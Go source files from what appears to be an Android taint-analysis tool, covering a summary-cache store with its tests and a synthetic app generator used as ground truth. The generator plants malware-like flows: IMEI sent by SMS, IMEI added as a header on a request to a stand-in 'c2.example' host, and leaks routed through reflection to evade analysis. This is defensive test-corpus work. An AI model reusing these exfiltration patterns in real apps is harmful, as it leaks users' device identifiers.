		hashes := HashMethods(graph)
		m := methodBySig(hashes, sig)
		hashes[m] = "0000000000000000000000000000000000000000000000000000000000000000"
		sess := Open(dir).Session("test.app", "fp", hashes)
		if _, st := sess.Lookup(m, shape); st != taint.LookupInvalidated {
			t.Errorf("stale hash: got %v, want invalidated", st)
		}
	})
	t.Run("unknown-shape", func(t *testing.T) {
		dir, _ := seed(t)
		sess, hashes := sessionFor(t, dir)
		m := methodBySig(hashes, sig)
		if _, st := sess.Lookup(m, "L:nonexistent|no.Class#f"); st != taint.LookupMiss {
			t.Errorf("unknown shape: got %v, want miss", st)
		}
	})
}

// TestCorruptStoreStillCorrectReport sabotages every stored file and
// checks the warm run degrades to a correct cold run.
func TestCorruptStoreStillCorrectReport(t *testing.T) {
	dir := t.TempDir()
	cold := runWith(t, Open(dir))
	want, _ := cold.CanonicalJSON()

	sess, hashes := sessionFor(t, dir)
	n := 0
	for m := range hashes {
		path := sess.path(m)
		if data, err := os.ReadFile(path); err == nil {
			data[0] ^= 0xff // the opening brace: guaranteed-invalid JSON
			if err := os.WriteFile(path, data, 0o644); err != nil {
				t.Fatal(err)
			}
			n++
		}
	}
	if n == 0 {
		t.Fatal("no summary files to corrupt")
	}

	warm := runWith(t, Open(dir))
	st := warm.Stats.Store
	if st == nil || st.Corrupt == 0 {
		t.Fatalf("corruption not observed: %+v", st)
	}
	if st.Hits != 0 {
		t.Fatalf("corrupted store produced hits: %+v", st)
	}
	got, _ := warm.CanonicalJSON()
	if !bytes.Equal(got, want) {
		t.Fatalf("report over corrupted store differs:\n%s\nvs\n%s", got, want)
	}
}

func TestFlushMergesShapes(t *testing.T) {
	dir := t.TempDir()
	s1, hashes := sessionFor(t, dir)
	m := methodBySig(hashes, "Help.id/1")
	if m == nil {
		t.Fatal("Help.id/1 not found")
	}
	recA := &taint.MethodSummary{Exits: []taint.SummaryExit{{ExitIndex: 1, Fact: taint.SymbolicFact{Base: "y", Entry: true, Active: true}}}}
	recB := &taint.MethodSummary{Exits: []taint.SummaryExit{{ExitIndex: 1, Fact: taint.SymbolicFact{Base: "x", Entry: true, Active: true}}}}
	s1.Persist(m, "L:a", recA)
	if err := s1.Flush(); err != nil {
		t.Fatal(err)
	}

	s2, hashes2 := sessionFor(t, dir)
	m2 := methodBySig(hashes2, "Help.id/1")
	s2.Persist(m2, "L:b", recB)
	if err := s2.Flush(); err != nil {
		t.Fatal(err)
	}

	s3, hashes3 := sessionFor(t, dir)
	m3 := methodBySig(hashes3, "Help.id/1")
	gotA, stA := s3.Lookup(m3, "L:a")
	gotB, stB := s3.Lookup(m3, "L:b")
	if stA != taint.LookupHit || stB != taint.LookupHit {
		t.Fatalf("merged shapes not both served: %v / %v", stA, stB)
	}
	if gotA.Exits[0].Fact.Base != "y" || gotB.Exits[0].Fact.Base != "x" {
		t.Fatalf("merged records swapped: %+v / %+v", gotA, gotB)
	}
}

func TestOpenEmptyDirIsNil(t *testing.T) {
	if Open("") != nil {
		t.Fatal("Open(\"\") must return a nil store")
	}
	var s *Store
	if s.Session("a", "b", nil) != nil {
		t.Fatal("nil store must yield a nil session")
	}
}
