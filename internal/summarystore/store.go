package summarystore

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sync"

	"flowdroid/internal/ir"
	"flowdroid/internal/taint"
)

// FormatVersion is the on-disk format version. Entries written under a
// different version are treated as misses — never migrated, never
// errors — so the format can change freely between releases. It also
// versions the built-in source/sink rules and the hashing scheme:
// bumping it invalidates every store.
const FormatVersion = 1

// Store is a disk-backed summary store rooted at one directory. The
// zero-cost contract: Open never touches the disk (directories are
// created lazily on flush), a missing or unreadable root simply yields
// misses, and nothing in the store can fail an analysis.
type Store struct {
	root string
}

// Open returns a store rooted at dir. It never fails; all I/O errors
// surface later as lookup misses or a Flush error.
func Open(dir string) *Store {
	if dir == "" {
		return nil
	}
	return &Store{root: dir}
}

// Dir returns the store's root directory.
func (s *Store) Dir() string { return s.root }

// Session binds the store to one analysis run: a namespace (the app's
// package), a configuration fingerprint (any setting that changes
// transfer-function behaviour must be folded in by the caller — the
// pipeline computes it), and the run's method hashes. The session
// implements taint.Summaries; lookups read through a per-session file
// cache and persists are buffered in memory until Flush, so a run that
// dies mid-way writes nothing.
func (s *Store) Session(appNS, configFP string, hashes map[*ir.Method]string) *Session {
	if s == nil {
		return nil
	}
	return &Session{
		dir:     filepath.Join(s.root, sanitize(configFP), sanitize(appNS)),
		hashes:  hashes,
		files:   make(map[string]*fileState),
		pending: make(map[*ir.Method]map[string]*taint.MethodSummary),
	}
}

// sanitize keeps namespace components filesystem-safe.
func sanitize(s string) string {
	if s == "" {
		return "_"
	}
	out := make([]byte, 0, len(s))
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z', c >= '0' && c <= '9',
			c == '.', c == '-', c == '_':
			out = append(out, c)
		default:
			out = append(out, '_')
		}
	}
	return string(out)
}

// fileRecord is the on-disk shape of one method's summaries: every
// entry-fact shape analyzed for the method, under one transitive
// content hash. Sig disambiguates the (truncated) name hash the file is
// keyed by.
type fileRecord struct {
	FormatVersion int                             `json:"formatVersion"`
	Sig           string                          `json:"sig"`
	MethodHash    string                          `json:"methodHash"`
	Entries       map[string]*taint.MethodSummary `json:"entries"`
}

// fileState caches one file's classification for the session.
type fileState struct {
	rec    *fileRecord
	status taint.LookupStatus // LookupHit means "readable and parsed"
}

// Session is one run's view of the store. Safe for concurrent use by
// the solver's workers.
type Session struct {
	dir    string
	hashes map[*ir.Method]string

	mu      sync.Mutex
	files   map[string]*fileState
	pending map[*ir.Method]map[string]*taint.MethodSummary
}

func (ss *Session) path(m *ir.Method) string {
	sum := sha256.Sum256([]byte(m.String()))
	return filepath.Join(ss.dir, hex.EncodeToString(sum[:8])+".sum")
}

// Lookup implements taint.Summaries. Every failure mode — absent file,
// unreadable file, malformed JSON, wrong format version, name-hash
// collision, stale method hash, absent shape — degrades to a miss-like
// status; nothing errors.
func (ss *Session) Lookup(m *ir.Method, shape string) (*taint.MethodSummary, taint.LookupStatus) {
	hash, ok := ss.hashes[m]
	if !ok {
		return nil, taint.LookupMiss
	}
	path := ss.path(m)
	ss.mu.Lock()
	st := ss.files[path]
	if st == nil {
		st = loadFile(path)
		ss.files[path] = st
	}
	ss.mu.Unlock()
	if st.status != taint.LookupHit {
		return nil, st.status
	}
	if st.rec.Sig != m.String() {
		return nil, taint.LookupMiss // truncated-name-hash collision
	}
	if st.rec.MethodHash != hash {
		return nil, taint.LookupInvalidated
	}
	rec, ok := st.rec.Entries[shape]
	if !ok || rec == nil {
		return nil, taint.LookupMiss
	}
	return rec, taint.LookupHit
}

// loadFile classifies a summary file: absent is a miss; unreadable,
// unparseable, or version-mismatched is corrupt.
func loadFile(path string) *fileState {
	data, err := os.ReadFile(path)
	if err != nil {
		if errors.Is(err, os.ErrNotExist) {
			return &fileState{status: taint.LookupMiss}
		}
		return &fileState{status: taint.LookupCorrupt}
	}
	var rec fileRecord
	if err := json.Unmarshal(data, &rec); err != nil {
		return &fileState{status: taint.LookupCorrupt}
	}
	if rec.FormatVersion != FormatVersion {
		return &fileState{status: taint.LookupCorrupt}
	}
	return &fileState{rec: &rec, status: taint.LookupHit}
}

// Persist implements taint.Summaries: it buffers the record in memory.
// The engine only calls it after a Completed run; nothing reaches the
// disk until Flush.
func (ss *Session) Persist(m *ir.Method, shape string, rec *taint.MethodSummary) {
	if _, ok := ss.hashes[m]; !ok {
		return
	}
	ss.mu.Lock()
	defer ss.mu.Unlock()
	per := ss.pending[m]
	if per == nil {
		per = make(map[string]*taint.MethodSummary)
		ss.pending[m] = per
	}
	per[shape] = rec
}

// Flush writes the buffered summaries to disk, one atomically-replaced
// file per method. An existing file under the same method hash is
// merged (new shapes win); a stale or unreadable file is overwritten
// wholesale. Errors are collected, not fatal — the store is a cache.
func (ss *Session) Flush() error {
	ss.mu.Lock()
	pending := ss.pending
	ss.pending = make(map[*ir.Method]map[string]*taint.MethodSummary)
	ss.mu.Unlock()
	if len(pending) == 0 {
		return nil
	}
	if err := os.MkdirAll(ss.dir, 0o755); err != nil {
		return fmt.Errorf("summarystore: %w", err)
	}
	var errs []error
	for m, shapes := range pending {
		hash := ss.hashes[m]
		path := ss.path(m)
		rec := &fileRecord{FormatVersion: FormatVersion, Sig: m.String(), MethodHash: hash}
		if prev := loadFile(path); prev.status == taint.LookupHit &&
			prev.rec.Sig == rec.Sig && prev.rec.MethodHash == hash {
			rec.Entries = prev.rec.Entries
		}
		if rec.Entries == nil {
			rec.Entries = make(map[string]*taint.MethodSummary)
		}
		for shape, sum := range shapes {
			rec.Entries[shape] = sum
		}
		if err := writeAtomic(path, rec); err != nil {
			errs = append(errs, err)
		}
	}
	return errors.Join(errs...)
}

// writeAtomic writes the record via a temp file and rename, so readers
// never observe a torn file and a crash mid-write leaves the previous
// version intact.
func writeAtomic(path string, rec *fileRecord) error {
	data, err := json.MarshalIndent(rec, "", "  ")
	if err != nil {
		return err
	}
	tmp, err := os.CreateTemp(filepath.Dir(path), ".tmp-*")
	if err != nil {
		return err
	}
	_, werr := tmp.Write(append(data, '\n'))
	cerr := tmp.Close()
	if werr != nil || cerr != nil {
		os.Remove(tmp.Name())
		return errors.Join(werr, cerr)
	}
	if err := os.Rename(tmp.Name(), path); err != nil {
		os.Remove(tmp.Name())
		return err
	}
	return nil
}
