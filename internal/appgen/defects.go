package appgen

// Defect injection: each Defect is one class of IR defect the verifier
// (internal/irlint) must catch, expressed as self-contained IR text (or
// a layout file) appended to a generated app. The injector gives every
// analyzer a corpus-level positive test — Apply a defect, lint the app,
// expect its Code — and seeds the parse-then-verify fuzz targets with
// programs that are valid text but semantically broken. Defects that
// cannot be written down (out-of-range branch targets, arity
// mismatches, duplicate locals: the parser refuses the text) are
// covered by programmatic IR-builder tests in irlint instead.

// Defect is one injectable defect class.
type Defect struct {
	// Name identifies the defect kind (e.g. "usebeforedef").
	Name string
	// Code is the irlint diagnostic code the defect triggers.
	Code string
	// Error says whether the diagnostic is Error-severity, i.e. whether
	// an analysis of the defective app ends in StatusInvalidProgram.
	Error bool

	snippet string // IR text appended to the app's code file
	layout  string // optional defective layout XML
}

// Snippet returns the defect's IR text (empty for layout-only defects),
// usable as a fuzz seed.
func (d Defect) Snippet() string { return d.snippet }

// Apply returns a copy of the app with the defect injected. The app's
// leak ground truth is unchanged — defects are semantic, not behavioural.
func (d Defect) Apply(app App) App {
	files := make(map[string]string, len(app.Files)+1)
	for k, v := range app.Files {
		files[k] = v
	}
	if d.snippet != "" {
		files["classes.ir"] += d.snippet
	}
	if d.layout != "" {
		files["res/layout/defect.xml"] = d.layout
	}
	app.Name += "+" + d.Name
	app.Files = files
	return app
}

// Defects returns all injectable defect classes in deterministic order.
func Defects() []Defect { return append([]Defect(nil), defectRegistry...) }

// DefectByName looks a defect up; ok is false for unknown names.
func DefectByName(name string) (Defect, bool) {
	for _, d := range defectRegistry {
		if d.Name == name {
			return d, true
		}
	}
	return Defect{}, false
}

var defectRegistry = []Defect{
	{
		Name: "usebeforedef", Code: "defuse.undef", Error: true,
		snippet: `
class com.defect.UseBeforeDef {
  method m(): void {
    x = y
    return
  }
}
`,
	},
	{
		Name: "maybeundef", Code: "defuse.maybe",
		snippet: `
class com.defect.MaybeUndef {
  method m(): void {
    if * goto skip
    x = 1
  skip:
    y = x
    return
  }
}
`,
	},
	{
		Name: "typemismatch", Code: "typecheck.assign",
		snippet: `
class com.defect.TypeMismatch {
  method m(): void {
    local x: int
    x = "oops"
    return
  }
}
`,
	},
	{
		Name: "unknownclass", Code: "resolve.class",
		snippet: `
class com.defect.UnknownClass {
  method m(): void {
    y = com.missing.Widget.make()
    return
  }
}
`,
	},
	{
		Name: "unknownmethod", Code: "resolve.method",
		snippet: `
class com.defect.UnknownMethod {
  method m(): void {
    s = "abc"
    t = s.gobbledygook()
    return
  }
}
`,
	},
	{
		Name: "unreachable", Code: "unreachable.stmt",
		snippet: `
class com.defect.Unreachable {
  method m(): void {
    return
    x = 1
  }
}
`,
	},
	{
		Name: "missingreturn", Code: "missingreturn.exit",
		snippet: `
class com.defect.MissingReturn {
  method m(): java.lang.String {
    return
  }
}
`,
	},
	{
		Name: "inheritancecycle", Code: "hierarchy.cycle", Error: true,
		snippet: `
class com.defect.CycleA extends com.defect.CycleB {
}
class com.defect.CycleB extends com.defect.CycleA {
}
`,
	},
	{
		Name: "missingsuper", Code: "hierarchy.super",
		snippet: `
class com.defect.Orphan extends com.missing.Base {
}
`,
	},
	{
		Name: "badregistration", Code: "registrations.onclick",
		layout: `<LinearLayout>
  <Button android:id="@+id/ghost" android:onClick="noSuchHandler"/>
</LinearLayout>`,
	},
}
