package appgen

import (
	"context"
	"math/rand"
	"testing"
	"time"

	"flowdroid/internal/core"
)

// TestLargeAppScalability analyzes a deliberately oversized app (an order
// of magnitude above the Play profile) and checks the analysis both
// terminates promptly and still recovers the injected ground truth. This
// is the repository's stand-in for the paper's worst-case observation
// (Samsung Push Service at 4.5 minutes): the largest app must stay within
// an interactive budget, not blow up combinatorially.
func TestLargeAppScalability(t *testing.T) {
	r := rand.New(rand.NewSource(99))
	app := Generate(r, Stress, 0)
	if app.Classes < 40 {
		t.Fatalf("stress app too small: %d classes", app.Classes)
	}
	start := time.Now()
	res, err := core.AnalyzeFiles(context.Background(), app.Files, core.DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	elapsed := time.Since(start)
	if got := len(res.Leaks()); got != app.InjectedLeaks {
		t.Errorf("found %d leaks, injected %d", got, app.InjectedLeaks)
	}
	if elapsed > 30*time.Second {
		t.Errorf("analysis took %v; the engine is not scaling", elapsed)
	}
	t.Logf("stress app: %d classes, %d injected leaks, analyzed in %v "+
		"(fw edges %d, bw edges %d, alias queries %d)",
		app.Classes, app.InjectedLeaks, elapsed,
		res.Taint.Stats.ForwardEdges, res.Taint.Stats.BackwardEdges,
		res.Taint.Stats.AliasQueries)
}
