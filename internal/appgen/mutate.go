package appgen

import (
	"fmt"
	"math/rand"
	"sort"
	"strings"
)

// MutateMethods models an app update: it returns a copy of the package
// with a benign statement inserted at the top of roughly fraction of the
// methods in classes.ir (deterministically selected from the seed), plus
// the number of methods actually mutated. The inserted statement assigns
// a string constant to a fresh local, so it changes the mutated method's
// body — and therefore its summary-store content hash — without changing
// any data flow: the update-stream experiments rely on the leak report
// staying identical while only the mutated methods (and their hash-cone
// ancestors) re-analyze.
func MutateMethods(files map[string]string, fraction float64, seed int64) (map[string]string, int) {
	out := make(map[string]string, len(files))
	for k, v := range files {
		out[k] = v
	}
	code, ok := out["classes.ir"]
	if !ok || fraction <= 0 {
		return out, 0
	}
	lines := strings.Split(code, "\n")
	var opens []int
	for i, l := range lines {
		if (strings.HasPrefix(l, "  method ") || strings.HasPrefix(l, "  static method ")) &&
			strings.HasSuffix(strings.TrimSpace(l), "{") {
			opens = append(opens, i)
		}
	}
	if len(opens) == 0 {
		return out, 0
	}
	n := int(float64(len(opens))*fraction + 0.5)
	if n < 1 {
		n = 1
	}
	if n > len(opens) {
		n = len(opens)
	}
	r := rand.New(rand.NewSource(seed))
	r.Shuffle(len(opens), func(i, j int) { opens[i], opens[j] = opens[j], opens[i] })
	sel := append([]int(nil), opens[:n]...)
	sort.Ints(sel)
	mutated := make(map[int]bool, n)
	for _, i := range sel {
		mutated[i] = true
	}
	grown := make([]string, 0, len(lines)+n)
	for i, l := range lines {
		grown = append(grown, l)
		if mutated[i] {
			// The local name is derived from the line index, so repeated
			// mutation rounds keep producing fresh names.
			grown = append(grown, fmt.Sprintf("    upd%d = \"upd\"", i))
		}
	}
	out["classes.ir"] = strings.Join(grown, "\n")
	return out, n
}
