// Package appgen generates synthetic Android app corpora for the RQ3
// experiments. The paper analyzed the 500 most popular Google Play apps
// and about 1,000 malware samples from VirusShare; neither corpus can be
// redistributed, so this package generates populations calibrated to the
// paper's observations instead:
//
//   - "Play" profile: larger apps with much benign helper code; the
//     majority accidentally leak identifiers (IMEI, location) into logs
//     and preference files — the ad-library pattern — but nothing truly
//     malicious (no SMS/network exfiltration of identifiers).
//   - "Malware" profile: comparatively small apps averaging ≈1.85 leaks
//     per sample, typically identification data sent via SMS or to a
//     remote server, including broadcast-receiver relays that forward
//     received data as SMS.
//
// Generation is fully deterministic from a seed, and each generated app
// records its injected ground truth so the harness can check the analysis
// end to end at corpus scale.
package appgen

import (
	"fmt"
	"math/rand"
	"strings"
)

// minMax is an inclusive integer range.
type minMax struct{ Min, Max int }

// MinMax builds an inclusive integer range for Profile fields, letting
// callers derive custom profiles from the built-in ones.
func MinMax(min, max int) minMax { return minMax{min, max} }

func (m minMax) pick(r *rand.Rand) int {
	if m.Max <= m.Min {
		return m.Min
	}
	return m.Min + r.Intn(m.Max-m.Min+1)
}

// Profile describes an app population.
type Profile struct {
	Name       string
	Activities minMax
	Services   minMax
	Receivers  minMax
	// Helpers are benign utility classes; NoiseMethods/NoiseStmts size
	// them.
	Helpers      minMax
	NoiseMethods minMax
	NoiseStmts   minMax

	// Per-app injection probabilities for the leak patterns.
	PImeiToLog      float64 // identifier logged (the Samsung Push Service pattern)
	PLocToPrefs     float64 // location into a preferences file (Hugo Runner)
	PPwdToLog       float64 // password field logged
	PImeiToSms      float64 // identifier exfiltrated via SMS (malware)
	PImeiToNet      float64 // identifier in an HTTP header (malware)
	PBroadcastRelay float64 // received broadcasts forwarded as SMS (malware)

	// Reflective leak patterns (the evasion technique the constant-
	// propagation pass exists to see through).
	PReflectLog   float64 // identifier logged via Class.forName("const").getMethod("leak").invoke
	PReflectSBLog float64 // same, but the class name is assembled through a StringBuilder
	// PReflectDyn plants a genuinely dynamic reflective chain (class name
	// from the incoming intent): no constant analysis can resolve it, so
	// it contributes no leak — only unresolved soundness entries.
	PReflectDyn float64
}

// Play is the Google-Play-like population profile.
var Play = Profile{
	Name:         "play",
	Activities:   minMax{2, 5},
	Services:     minMax{0, 2},
	Receivers:    minMax{0, 1},
	Helpers:      minMax{4, 10},
	NoiseMethods: minMax{3, 6},
	NoiseStmts:   minMax{4, 10},
	PImeiToLog:   0.60,
	PLocToPrefs:  0.35,
	PPwdToLog:    0.05,
}

// Malware is the VirusShare-like population profile.
var Malware = Profile{
	Name:            "malware",
	Activities:      minMax{1, 2},
	Services:        minMax{0, 1},
	Receivers:       minMax{1, 2},
	Helpers:         minMax{1, 3},
	NoiseMethods:    minMax{1, 3},
	NoiseStmts:      minMax{2, 6},
	PImeiToSms:      0.90,
	PBroadcastRelay: 0.55,
	PImeiToNet:      0.40,
}

// Reflection is the evasion-pattern profile: apps that route identifier
// leaks through the reflection API instead of direct calls. Most use
// constant (or StringBuilder-assembled) names the constant-propagation
// pass resolves; about half additionally contain a genuinely dynamic
// chain that must surface in the soundness report rather than the leak
// report.
var Reflection = Profile{
	Name:          "reflection",
	Activities:    minMax{1, 3},
	Services:      minMax{0, 1},
	Helpers:       minMax{2, 5},
	NoiseMethods:  minMax{2, 4},
	NoiseStmts:    minMax{3, 8},
	PImeiToLog:    0.40,
	PReflectLog:   0.80,
	PReflectSBLog: 0.50,
	PReflectDyn:   0.50,
}

// Stress is a deliberately oversized profile, an order of magnitude above
// Play: every leak pattern enabled, dozens of helper classes. The
// scalability and resilience tests use it as the app that is expensive
// enough for deadlines and propagation budgets to bite mid-analysis.
var Stress = Profile{
	Name:         "stress",
	Activities:   minMax{12, 12},
	Services:     minMax{4, 4},
	Receivers:    minMax{3, 3},
	Helpers:      minMax{25, 25},
	NoiseMethods: minMax{8, 8},
	NoiseStmts:   minMax{15, 25},
	PImeiToLog:   1.0,
	PLocToPrefs:  1.0,
	PImeiToSms:   1.0,
	PImeiToNet:   1.0,
	PPwdToLog:    1.0,
}

// App is one generated application with its injected ground truth.
type App struct {
	Name  string
	Files map[string]string
	// InjectedLeaks is the number of planted source-to-sink flows.
	InjectedLeaks int
	// LeakKinds names the planted patterns.
	LeakKinds []string
	// ReflectiveLeaks counts how many of InjectedLeaks flow through a
	// resolvable reflective call: they are found only when the analysis
	// runs with reflection resolution on.
	ReflectiveLeaks int
	// DynamicReflectiveChains counts planted reflective chains whose
	// class name is genuinely dynamic: never a leak, always unresolved
	// soundness entries.
	DynamicReflectiveChains int
	// Classes counts the generated classes (a size proxy).
	Classes int
}

// Generate produces the idx-th app of a profile, deterministically from
// the rng.
func Generate(r *rand.Rand, p Profile, idx int) App {
	g := &gen{r: r, pkg: fmt.Sprintf("com.%s.app%03d", p.Name, idx)}

	nAct := p.Activities.pick(r)
	if nAct == 0 {
		nAct = 1
	}
	nSvc := p.Services.pick(r)
	nRcv := p.Receivers.pick(r)
	nHelp := p.Helpers.pick(r)

	// Decide the injected leaks up front and distribute them over
	// components.
	type injection struct{ kind string }
	var inj []injection
	roll := func(prob float64, kind string) {
		if prob > 0 && r.Float64() < prob {
			inj = append(inj, injection{kind})
		}
	}
	roll(p.PImeiToLog, "imei->log")
	roll(p.PLocToPrefs, "location->prefs")
	roll(p.PPwdToLog, "password->log")
	roll(p.PImeiToSms, "imei->sms")
	roll(p.PImeiToNet, "imei->net")
	if nRcv > 0 {
		roll(p.PBroadcastRelay, "broadcast->sms")
	}
	reflective := 0
	if p.PReflectLog > 0 && r.Float64() < p.PReflectLog {
		inj = append(inj, injection{"imei->reflect-log"})
		reflective++
	}
	if p.PReflectSBLog > 0 && r.Float64() < p.PReflectSBLog {
		inj = append(inj, injection{"imei->reflect-sb-log"})
		reflective++
	}
	// A dynamic chain is not a leak: it is distributed to the first
	// activity directly, bypassing the injection bookkeeping.
	dynChains := 0
	if p.PReflectDyn > 0 && r.Float64() < p.PReflectDyn {
		dynChains = 1
	}

	// Helper classes (benign noise).
	for h := 0; h < nHelp; h++ {
		g.emitHelper(h, p.NoiseMethods.pick(r), p.NoiseStmts)
	}

	// Assign activity-borne leaks round-robin over the activities.
	perActivity := make([][]string, nAct)
	var receiverLeaks []string
	for i, in := range inj {
		switch in.kind {
		case "broadcast->sms":
			receiverLeaks = append(receiverLeaks, in.kind)
		default:
			a := i % nAct
			perActivity[a] = append(perActivity[a], in.kind)
		}
	}
	for d := 0; d < dynChains; d++ {
		perActivity[0] = append(perActivity[0], "imei->reflect-dyn")
	}

	var comps []string
	for a := 0; a < nAct; a++ {
		name := fmt.Sprintf("Activity%d", a)
		g.emitActivity(name, perActivity[a], nHelp, p.NoiseStmts)
		comps = append(comps, "activity:"+name)
	}
	for s := 0; s < nSvc; s++ {
		name := fmt.Sprintf("Service%d", s)
		g.emitService(name, nHelp, p.NoiseStmts)
		comps = append(comps, "service:"+name)
	}
	for rc := 0; rc < nRcv; rc++ {
		name := fmt.Sprintf("Receiver%d", rc)
		leak := rc == 0 && len(receiverLeaks) > 0
		g.emitReceiver(name, leak)
		comps = append(comps, "receiver:"+name)
	}

	if g.needReflSink {
		g.emitReflSink()
	}

	kinds := make([]string, 0, len(inj))
	for _, in := range inj {
		kinds = append(kinds, in.kind)
	}
	return App{
		Name:                    g.pkg,
		Files:                   g.files(comps),
		InjectedLeaks:           len(inj),
		LeakKinds:               kinds,
		ReflectiveLeaks:         reflective,
		DynamicReflectiveChains: dynChains,
		Classes:                 g.classes,
	}
}

// GenerateCorpus produces n apps from a fixed seed.
func GenerateCorpus(p Profile, n int, seed int64) []App {
	r := rand.New(rand.NewSource(seed))
	out := make([]App, 0, n)
	for i := 0; i < n; i++ {
		out = append(out, Generate(r, p, i))
	}
	return out
}

// ---------------------------------------------------------------- emitter

type gen struct {
	r            *rand.Rand
	pkg          string
	code         strings.Builder
	classes      int
	uniq         int
	needPwd      bool
	needReflSink bool
}

func (g *gen) fresh(stem string) string {
	g.uniq++
	return fmt.Sprintf("%s%d", stem, g.uniq)
}

// emitHelper writes a benign utility class with string-shuffling methods.
func (g *gen) emitHelper(idx, methods int, stmts minMax) {
	g.classes++
	fmt.Fprintf(&g.code, "class %s.Helper%d {\n", g.pkg, idx)
	for m := 0; m < methods; m++ {
		fmt.Fprintf(&g.code, "  static method work%d(x: java.lang.String): java.lang.String {\n", m)
		cur := "x"
		n := stmts.pick(g.r)
		for s := 0; s < n; s++ {
			nxt := g.fresh("v")
			switch g.r.Intn(5) {
			case 0:
				fmt.Fprintf(&g.code, "    %s = %s + \"-%d\"\n", nxt, cur, s)
			case 1:
				fmt.Fprintf(&g.code, "    %s = %s.trim()\n", nxt, cur)
			case 2:
				fmt.Fprintf(&g.code, "    %s = %s.toUpperCase()\n", nxt, cur)
			case 3:
				// Launder through a StringBuilder chain: taint must survive
				// append/insert (value into receiver) and toString (receiver
				// back out), exercising the string-carrier transfers. The
				// multi-call chain gives the receiver alias search a real
				// backward region to walk when the carrier gate is off.
				sb := g.fresh("sb")
				fmt.Fprintf(&g.code, "    %s = new java.lang.StringBuilder()\n", sb)
				fmt.Fprintf(&g.code, "    %s.append(\"seed-%d\")\n", sb, s)
				fmt.Fprintf(&g.code, "    %s.append(%s)\n", sb, cur)
				fmt.Fprintf(&g.code, "    %s.insert(0, %s)\n", sb, cur)
				fmt.Fprintf(&g.code, "    %s = %s.toString()\n", nxt, sb)
			default:
				fmt.Fprintf(&g.code, "    %s = %s.substring(1)\n", nxt, cur)
			}
			cur = nxt
		}
		fmt.Fprintf(&g.code, "    return %s\n  }\n", cur)
	}
	g.code.WriteString("}\n")
}

// launder routes a value through a random helper to make the flows
// interprocedural, returning the local holding the result.
func (g *gen) launder(val string, nHelpers int) string {
	if nHelpers == 0 {
		return val
	}
	h := g.r.Intn(nHelpers)
	out := g.fresh("w")
	fmt.Fprintf(&g.code, "    %s = %s.Helper%d.work0(%s)\n", out, g.pkg, h, val)
	return out
}

func (g *gen) emitNoise(stmts minMax) {
	n := stmts.pick(g.r)
	cur := g.fresh("n")
	fmt.Fprintf(&g.code, "    %s = \"noise\"\n", cur)
	for s := 0; s < n; s++ {
		nxt := g.fresh("n")
		fmt.Fprintf(&g.code, "    %s = %s + \"x\"\n", nxt, cur)
		cur = nxt
	}
}

func (g *gen) emitActivity(name string, leaks []string, nHelpers int, stmts minMax) {
	g.classes++
	fmt.Fprintf(&g.code, "class %s.%s extends android.app.Activity {\n", g.pkg, name)
	g.code.WriteString("  method onCreate(b: android.os.Bundle): void {\n")
	if g.needsLayout(leaks) {
		g.code.WriteString("    this.setContentView(@layout/main)\n")
	}
	g.emitNoise(stmts)
	for _, kind := range leaks {
		g.emitLeak(kind, nHelpers)
	}
	g.code.WriteString("    return\n  }\n")
	g.code.WriteString("}\n")
}

func (g *gen) needsLayout(leaks []string) bool {
	for _, k := range leaks {
		if k == "password->log" {
			g.needPwd = true
			return true
		}
	}
	return false
}

// emitLeak writes one planted flow inside the current method body.
func (g *gen) emitLeak(kind string, nHelpers int) {
	switch kind {
	case "imei->log":
		v := g.imei()
		w := g.launder(v, nHelpers)
		fmt.Fprintf(&g.code, "    android.util.Log.i(\"app\", %s)\n", w)
	case "location->prefs":
		v := g.location()
		w := g.launder(v, nHelpers)
		p, ed := g.fresh("p"), g.fresh("ed")
		fmt.Fprintf(&g.code, "    %s = this.getSharedPreferences(\"state\", 0)\n", p)
		fmt.Fprintf(&g.code, "    %s = %s.edit()\n", ed, p)
		fmt.Fprintf(&g.code, "    %s.putString(\"loc\", %s)\n", ed, w)
	case "password->log":
		raw, et, pv := g.fresh("raw"), g.fresh("et"), g.fresh("pv")
		fmt.Fprintf(&g.code, "    %s = this.findViewById(@id/pwd)\n", raw)
		fmt.Fprintf(&g.code, "    local %s: android.widget.EditText\n", et)
		fmt.Fprintf(&g.code, "    %s = (android.widget.EditText) %s\n", et, raw)
		fmt.Fprintf(&g.code, "    %s = %s.getText()\n", pv, et)
		w := g.launder(pv, nHelpers)
		fmt.Fprintf(&g.code, "    android.util.Log.d(\"auth\", %s)\n", w)
	case "imei->sms":
		v := g.imei()
		w := g.launder(v, nHelpers)
		s := g.fresh("sms")
		fmt.Fprintf(&g.code, "    %s = android.telephony.SmsManager.getDefault()\n", s)
		fmt.Fprintf(&g.code, "    %s.sendTextMessage(\"+7 900\", null, %s, null, null)\n", s, w)
	case "imei->net":
		v := g.imei()
		w := g.launder(v, nHelpers)
		u, c := g.fresh("u"), g.fresh("c")
		fmt.Fprintf(&g.code, "    %s = new java.net.URL(\"http://c2.example/ping\")\n", u)
		fmt.Fprintf(&g.code, "    %s = %s.openConnection()\n", c, u)
		fmt.Fprintf(&g.code, "    %s.setRequestProperty(\"X-Id\", %s)\n", c, w)
	case "imei->reflect-log":
		v := g.imei()
		w := g.launder(v, nHelpers)
		clz := g.fresh("clz")
		fmt.Fprintf(&g.code, "    %s = java.lang.Class.forName(%q)\n", clz, g.pkg+".ReflSink")
		g.emitReflectInvoke(clz, w)
	case "imei->reflect-sb-log":
		// The class name is laundered through a StringBuilder: the
		// constant-propagation pass must track append/toString to resolve
		// the chain.
		v := g.imei()
		w := g.launder(v, nHelpers)
		sb, cn, clz := g.fresh("sb"), g.fresh("cn"), g.fresh("clz")
		fmt.Fprintf(&g.code, "    %s = new java.lang.StringBuilder()\n", sb)
		fmt.Fprintf(&g.code, "    %s.append(%q)\n", sb, g.pkg+".Refl")
		fmt.Fprintf(&g.code, "    %s.append(\"Sink\")\n", sb)
		fmt.Fprintf(&g.code, "    %s = %s.toString()\n", cn, sb)
		fmt.Fprintf(&g.code, "    %s = java.lang.Class.forName(%s)\n", clz, cn)
		g.emitReflectInvoke(clz, w)
	case "imei->reflect-dyn":
		// The class name comes from the incoming intent — unresolvable by
		// any constant analysis. The would-be leak stays invisible; the
		// chain must show up in the soundness report instead.
		v := g.imei()
		w := g.launder(v, nHelpers)
